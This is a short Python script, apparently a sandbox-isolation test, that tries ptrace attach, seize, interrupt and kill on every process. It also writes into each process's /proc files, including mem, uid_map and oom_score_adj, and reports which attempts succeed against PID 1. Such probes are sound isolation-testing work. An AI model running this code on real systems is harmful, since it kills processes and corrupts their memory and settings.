import ctypes
import os

import server


libc = ctypes.CDLL(None, use_errno=True)
TRIED, DONE = 0, []
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid == os.getpid():
        continue
    for request in (16, 0x4206, 0x4207, 8):  # attach, seize, interrupt, kill
        TRIED += 1
        if libc.ptrace(request, pid, 0, 0) == 0 and pid == 1:
            DONE.append(f"ptrace {request} of {pid}")
    for name in ("mem", "clear_refs", "oom_score_adj", "comm", "timerslack_ns", "attr/current",
                 "coredump_filter", "uid_map", "setgroups"):
        TRIED += 1
        try:
            with open(f"/proc/{pid}/{name}", "r+b", 0) as file:
                file.write(b"1000")
            if pid == 1:
                DONE.append(f"{name} of {pid}")
        except OSError:
            pass


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"tried": TRIED, "done": DONE})


server.serve(Attack)
